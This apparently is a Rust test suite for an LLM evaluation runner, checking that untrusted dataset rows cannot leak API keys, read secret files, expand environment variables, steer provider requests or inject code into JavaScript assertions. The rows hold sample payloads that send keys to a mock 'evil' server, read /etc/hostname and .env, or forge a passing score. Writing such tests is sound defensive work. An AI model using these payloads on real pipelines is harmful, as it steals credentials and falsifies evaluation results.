//! A stranger's dataset in an ordinary config: what its rows get, which is nothing.
//!
//! Each row was once enough to send a key, a variable or a file of the user's to a server of the
//! row's choice. The server here is the stranger's; it must see nothing.

use insta::assert_snapshot;
use runner_tests::{Answer, Finished, ModelApi, Run, Seen};
use serde_json::{Value, json};

const KEY: &str = "sk-test-0123456789-very-secret";
const OTHER: &str = "wJalrXUtnFEMI-aws-secret";

/// The run of somebody who evaluates `rows`, which are the stranger's.
fn victim(name: &str, rows: &str) -> Run {
    let config = format!(
        "env: {{ LOGIN: }}\nprompts: ['{{{{q}}}}']\nproviders: [echo]\ntests: file://{name}\n"
    );
    Run::new()
        .config(&config)
        .file(name, rows)
        .file(".env", "STRIPE_SK=sk_live_0123456789")
        .env("OPENAI_API_KEY", KEY)
        .env("AWS_SECRET_ACCESS_KEY", OTHER)
        .env("LOGIN", "admin:hunter2hunter2")
        .arg("eval")
}

/// What the rows of `file` are said to ask for, without where it stands; the rest of the message
/// is held to the word.
#[track_caller]
fn asked(finished: &Finished, file: &str) -> Vec<String> {
    finished.expect_code(2);
    let rest = finished
        .stderr
        .strip_prefix(&format!(
            "error: rows of {file} ask for permissions that need your agreement, since data gives values only; nothing was sent:\n"
        ))
        .unwrap_or_else(|| panic!("{}", finished.stderr));
    let (lines, help) = rest.split_once("help: ").expect("what to do");
    assert_eq!(
        help,
        "to agree, run `runner trust`. In CI, if you trust everything it checks out, set RUNNER_TRUST=data.\n"
    );
    // What a provider is shown with is a matter of its own.
    let without_config = |subject: &str| match subject.split_once(" (") {
        Some((what, _)) if subject.contains(" the provider '") => what.to_owned(),
        _ => subject.to_owned(),
    };
    let subject = |line: &str| {
        let at = line
            .strip_prefix(&format!("  {file}:"))
            .unwrap_or_else(|| panic!("{line}"));
        without_config(at.split_once(": ").map_or(at, |(_, subject)| subject))
    };
    // What else there is to ask for may have to wait.
    let lines = lines.lines().filter(|line| !line.starts_with("note: "));
    let mut subjects: Vec<String> = lines.map(subject).collect();
    subjects.sort();
    subjects
}

#[test]
fn rows_that_bring_a_server_send_it_nothing() {
    let api = ModelApi::start();
    api.always(Answer::text("fine"));
    let evil = api.url().replace("127.0.0.1", "0.0.0.0");
    let ask = |id: &str| format!("ask the provider '{id}'");
    let grade = |id: &str| format!("let the provider '{id}' grade answers");
    let send = |name: &str| format!("send the environment variable {name} to {evil}");
    let rows = [
        (
            format!(
                r#""provider": {{ "id": "openai:chat:x", "config": {{ "apiBaseUrl": "{evil}/v1" }} }}"#
            ),
            vec![ask("openai:chat:x"), send("OPENAI_API_KEY")],
        ),
        (
            format!(
                r#""provider": {{ "id": "openai:chat:x", "config": {{ "apiBaseUrl": "{evil}/v1", "apiKeyEnvar": "AWS_SECRET_ACCESS_KEY" }} }}"#
            ),
            vec![ask("openai:chat:x"), send("AWS_SECRET_ACCESS_KEY")],
        ),
        (
            format!(
                r#""provider": {{ "id": "{evil}/steal", "config": {{ "method": "POST", "body": {{ "f": "file:///etc/hostname" }} }} }}"#
            ),
            vec!["read the file /etc/hostname".to_owned()],
        ),
        (
            format!(
                r#""assert": [{{ "type": "llm-rubric", "value": "v", "provider": {{ "id": "{evil}/j", "config": {{ "method": "POST", "body": {{ "r": "{{{{prompt}}}}" }} }} }} }}]"#
            ),
            vec![grade(&format!("{evil}/j"))],
        ),
        (
            format!(
                r#""options": {{ "provider": {{ "id": "openai:x", "config": {{ "apiBaseUrl": "{evil}" }} }} }}, "assert": [{{ "type": "llm-rubric", "value": "v" }}]"#
            ),
            vec![grade("openai:x"), send("OPENAI_API_KEY")],
        ),
        (
            r#""options": { "url": "http://0.0.0.0:1/x", "headers": { "x-role": "admin" } }"#
                .to_owned(),
            vec![
                r#"set `headers` of its request to {"x-role":"admin"}"#.to_owned(),
                r#"set `url` of its request to "http://0.0.0.0:1/x""#.to_owned(),
            ],
        ),
    ];
    for (rest, expected) in rows {
        let row = format!("{{ \"vars\": {{ \"q\": \"1\" }}, {rest} }}\n");
        for name in ["rows.jsonl", "rows.json"] {
            let finished = victim(name, &row).finish();
            assert_eq!(asked(&finished, name), expected, "{row}");
            assert!(!finished.stderr.contains(KEY) && !finished.stderr.contains(OTHER));
        }
    }
    assert!(api.requests().is_empty(), "nothing was sent");
}

#[test]
fn cells_read_no_file_outside_and_no_hidden_one() {
    for (file, real) in [
        ("file://.env", Some("PROJECT/.env")),
        ("file://.git/config", Some("PROJECT/.git/config")),
        ("file:///etc/hostname", Some("/etc/hostname")),
        ("file://out/secret.txt", Some("HOME/secret.txt")),
        ("file://note.txt", None),
    ] {
        let run = victim("rows.csv", &format!("q\n{file}\n"))
            .file(".git/config", "[remote]")
            .file("note.txt", "a note");
        std::fs::write(run.home().join("secret.txt"), "x").expect("the home is ours");
        std::os::unix::fs::symlink(run.home(), run.project().join("out"))
            .expect("the folder is ours");
        let real = real.map(|real| {
            let whole = |path: &std::path::Path| {
                path.canonicalize()
                    .expect("it is there")
                    .display()
                    .to_string()
            };
            real.replace("PROJECT", &whole(run.project()))
                .replace("HOME", &whole(run.home()))
        });
        let finished = run.finish();
        match real {
            Some(real) => assert_eq!(
                asked(&finished, "rows.csv"),
                [format!("read the file {real}")]
            ),
            None => drop(finished.expect_code(0)),
        }
    }
}

#[test]
fn rows_see_no_environment_wherever_their_words_stand() {
    let rows =
        "q,__prefix,__suffix\n{{ env.LOGIN }},\"a {{ env.LOGIN }} \",\" {{ env['LOGIN'] }}b\"\n";
    let csv = victim("rows.csv", rows).args(["-o", "out.json"]).finish();
    csv.expect_code(0);
    let row = r#"{ "vars": { "q": "{{ env.LOGIN }}" }, "options": { "prefix": "{{ env.LOGIN }}" }, "metadata": { "m": "{{ env.LOGIN }}" } }"#;
    let jsonl = victim("rows.jsonl", row).args(["-o", "out.json"]).finish();
    jsonl.expect_code(0);
    for finished in [csv, jsonl] {
        let kept = finished.read("out.json");
        assert!(
            kept.contains("{{ env.LOGIN }}") && !kept.contains("hunter2"),
            "{kept}"
        );
    }
}

#[test]
fn a_provider_of_a_row_is_shown_with_what_it_says_and_agreed_to_for_its_file_alone() {
    let row = r#"{ "vars": { "q": "1" }, "provider": { "id": "http", "config": { "url": "http://127.0.0.1:9/x", "apiKey": "sk-of-the-row", "body": "LONG" } } }"#;
    let row = row.replace("LONG", &"long ".repeat(100));
    let first = victim("rows.jsonl", &row).finish();
    first.expect_code(2);
    let line = first.stderr.lines().nth(1).expect("a line");
    let (shown, digest) = line.split_once("…; sha256 ").expect("it is cut");
    let begins = "  rows.jsonl:1:37: ask the provider 'http' (url: http://127.0.0.1:9/x, apiKey: [hidden], body: long long ";
    assert!(shown.starts_with(begins), "{line}");
    assert_eq!(digest.len(), "0123456789ab…)".len(), "{line}");
    let (_, config) = shown.split_once('(').expect("it has a config");
    assert_eq!(config.chars().count(), 200);
    first
        .again()
        .args(["trust", "--yes"])
        .finish()
        .expect_code(0);
    // A row like it in another file is another stranger's.
    let config = "prompts: ['{{q}}']\nproviders: [echo]\ntests: file://other.jsonl\n";
    let other = first.again().config(config).file("other.jsonl", &row);
    let other = other.arg("eval").finish();
    assert_eq!(asked(&other, "other.jsonl"), ["ask the provider 'http'"]);
    let listed = first.again().args(["trust", "--list"]).finish();
    assert_snapshot!(listed.told());
}

#[test]
fn rows_that_were_agreed_to_run_unchanged() {
    let api = ModelApi::start();
    api.always(Answer::text("fine"));
    let row = format!(
        r#"{{ "vars": {{ "q": "1" }}, "provider": {{ "id": "openai:chat:x", "config": {{ "apiBaseUrl": "{}/v1" }} }} }}"#,
        api.url()
    );
    let first = victim("rows.jsonl", &row).finish();
    assert_eq!(
        asked(&first, "rows.jsonl"),
        ["ask the provider 'openai:chat:x'"]
    );
    let by_variable = first
        .again()
        .arg("eval")
        .env("RUNNER_TRUST", "config")
        .finish();
    assert_eq!(asked(&by_variable, "rows.jsonl").len(), 1);
    assert!(api.requests().is_empty());
    first
        .again()
        .args(["trust", "--yes"])
        .finish()
        .expect_code(0);
    first.again().arg("eval").finish().expect_code(0);
    assert_eq!(api.requests().len(), 1);
    let vouched = "prompts: ['{{q}}']\nproviders: [echo]\ntests: [{ path: file://rows.jsonl, trust: config }]\n";
    let vouched = victim("rows.jsonl", &row).config(vouched).finish();
    vouched.expect_code(0);
}

/// Providers of the config, whose requests have a key; the server answers in the form of each.
fn providers(api: &ModelApi) -> [Value; 3] {
    api.always(Answer::json(&json!({
        "choices": [{ "message": { "content": "fine" } }],
        "content": [{ "type": "text", "text": "fine" }],
        "candidates": [{ "content": { "parts": [{ "text": "fine" }] } }],
    })));
    let provider = |id: &str, base: &str| {
        let address = format!("{}{base}", api.url());
        json!({ "id": id, "config": { "apiBaseUrl": address, "apiVersion": "v1" } })
    };
    [
        provider("openai:chat:m", "/v1"),
        provider("anthropic:messages:m", ""),
        provider("google:m", ""),
    ]
}

/// The run of somebody who asks `provider` the stranger's rows, which have these options.
fn asks(provider: &Value, options: &[Value]) -> Run {
    let rows = options.iter().enumerate();
    let rows = rows.map(|(q, options)| json!({ "vars": { "q": q }, "options": options }));
    let rows: Vec<String> = rows.map(|row| row.to_string()).collect();
    let config =
        format!("prompts: ['{{{{q}}}}']\nproviders: [{provider}]\ntests: file://rows.jsonl\n");
    let run = victim("rows.jsonl", &rows.join("\n")).config(&config);
    run.env("ANTHROPIC_API_KEY", KEY).env("GEMINI_API_KEY", KEY)
}

#[test]
fn rows_steer_no_request_of_a_provider_of_the_config() {
    let api = ModelApi::start();
    let [openai, anthropic, google] = providers(&api);
    let escape = json!("../../v1beta/files/abc:delete?alt=json#");
    for (provider, name, value) in [
        (&google, "model", &escape),
        (&google, "apiVersion", &json!("../../evil?k=1#")),
        (
            &google,
            "passthrough",
            &json!({ "contents": null, "evil": 1 }),
        ),
        (&openai, "model", &json!("gpt-9")),
        (&openai, "messages", &json!([])),
        (&openai, "organization", &json!("org-evil")),
        (&openai, "apiKeyRequired", &json!(false)),
        (
            &openai,
            "passthrough",
            &json!({ "model": "gpt-9", "messages": [] }),
        ),
        (&anthropic, "beta", &json!(["evil"])),
        (&anthropic, "extra_body", &json!({ "model": "evil" })),
    ] {
        let options = json!({ "temperature": 0.5, name: value });
        let finished = asks(provider, &[options]).finish();
        let expected = [format!("set `{name}` of its request to {value}")];
        assert_eq!(asked(&finished, "rows.jsonl"), expected);
    }
    assert!(api.requests().is_empty(), "nothing was sent");
    // Agreed to, an option works; a name is a name even then.
    let agreed = |provider, options| asks(provider, &[options]).arg("--trust-data").finish();
    agreed(&google, json!({ "model": escape }));
    assert!(api.requests().is_empty(), "nothing was sent");
    agreed(&openai, json!({ "organization": "org-x" })).expect_code(0);
    let seen = api.requests();
    assert_eq!(seen[0].header("openai-organization"), Some("org-x"));
}

#[test]
fn options_of_rows_shape_the_answer_alone() {
    /// All of a request but what a row asks of the model.
    fn envelope(seen: &Seen) -> (&str, &str, Vec<&(String, String)>, &Value) {
        let headers = seen.headers.iter();
        let headers = headers.filter(|(name, _)| name != "content-length");
        (
            &seen.method,
            &seen.path,
            headers.collect(),
            &seen.json["model"],
        )
    }
    let schema = json!({ "type": "object" });
    let format = json!({ "type": "json_schema", "json_schema": { "name": "n", "schema": schema } });
    for index in 0..3 {
        let api = ModelApi::start();
        let provider = &providers(&api)[index];
        let options = [
            json!({}),
            json!({ "temperature": 0.5, "maxTokens": 9, "max_tokens": 9, "stop": ["x"], "seed": 1 }),
            json!({ "temperature": 0.5, "response_format": format, "prefix": "p" }),
        ];
        asks(provider, &options).finish().expect_code(0);
        let seen = api.requests();
        assert_eq!(seen.len(), 3, "{provider}");
        let has = |seen: &&Seen| seen.json.to_string().contains("\"temperature\":0.5");
        assert_eq!(seen.iter().filter(has).count(), 2, "{provider}");
        for other in &seen[1..] {
            assert_eq!(envelope(other), envelope(&seen[0]), "{provider}");
        }
    }
}

/// A variable that is filled into the code of an assertion may end it and go on with code of its own.
#[test]
fn words_of_a_row_in_code_of_the_config_score_no_more_than_a_row() {
    let word = "' ? 1 : { pass: true, score: 1e9, reason: 'ok', namedScores: { safety: 1e9 } }//";
    let row = json!({ "vars": { "q": "x", "want": word } }).to_string();
    let own = "{ vars: { q: y, want: z } }";
    let finished = Run::new()
        .config(&format!(
            "prompts: ['{{{{q}}}}']\nproviders: [echo]\nthresholds: {{ passRate: 0, metrics: {{ accuracy: 0.9 }} }}\n\
             defaultTest: {{ assert: [{{ type: javascript, metric: accuracy, value: \"output === '{{{{want}}}}'\" }}] }}\n\
             tests: [file://r.jsonl, {own}, {own}, {own}]\n"
        ))
        .file("r.jsonl", row)
        .args(["eval", "-o", "out.json", "--no-table"])
        .finish();
    finished.expect_code(100);
    let scored = &finished.json("out.json")["results"]["results"][0];
    assert_eq!(
        scored["namedScores"],
        json!({ "accuracy": 1.0, "safety": 1.0 })
    );
    // So do those of a document, and of an answer that an earlier test left.
    let left = format!(
        "{{ vars: {{ q: y }}, options: {{ storeOutputAs: want }}, providerOutput: {} }}, ",
        json!(word)
    );
    for (vars, first) in [("{ want: file://doc.txt }", ""), ("{ q: x }", &*left)] {
        let value = "output === '{{want}}'";
        let finished = Run::new()
            .config(&format!(
                "prompts: [p]\nproviders: [echo]\ntests: [{first}{{ vars: {vars}, assert: [{{ type: javascript, value: \"{value}\" }}] }}]\n"
            ))
            .file("doc.txt", word)
            .args(["eval", "-o", "out.json", "--no-table"])
            .finish();
        let rows = finished.json("out.json")["results"]["results"].take();
        let last = rows.as_array().and_then(|rows| rows.last()).expect("rows");
        assert_eq!(last["score"], json!(1.0), "{vars}: {last}");
    }
}
